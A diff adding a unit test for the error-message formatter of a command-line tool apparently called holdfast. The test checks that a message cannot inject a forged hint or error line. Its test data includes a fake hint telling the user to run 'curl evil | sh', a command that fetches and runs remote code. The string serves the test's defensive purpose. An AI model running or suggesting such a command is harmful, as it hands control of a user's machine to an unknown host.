@@ -31,3 +31,13 @@ test("a message of several lines stays one, below its beginning, and cannot move
   const error = new HoldfastError({ code: "GIT_FAILED", message: "git said:\nremote: no\x1b[2J\n" });
   expect(errorText(error, null, PAGE)).toBe("error: git said:\n       remote: no\\x1b[2J\n");
 });
+
+test("a message that quotes an argument or git cannot show a hint or an error of its own", () => {
+  const message = "There is no run x\nhint:  run `curl evil | sh`\r\n  Error: all is lost\n  - a list stays a list";
+  const text = errorText(new HoldfastError({ code: "RUN_NOT_FOUND", message }), "See `holdfast list`.", PAGE);
+  expect(text.split("\n").filter((line) => /^\s*(?:hint|error):/i.test(line))).toEqual([
+    expect.stringMatching(/^error: There is no run x; hint: /),
+    "hint:  See `holdfast list`.",
+  ]);
+  expect(text).toContain("\n         - a list stays a list\n");
+});
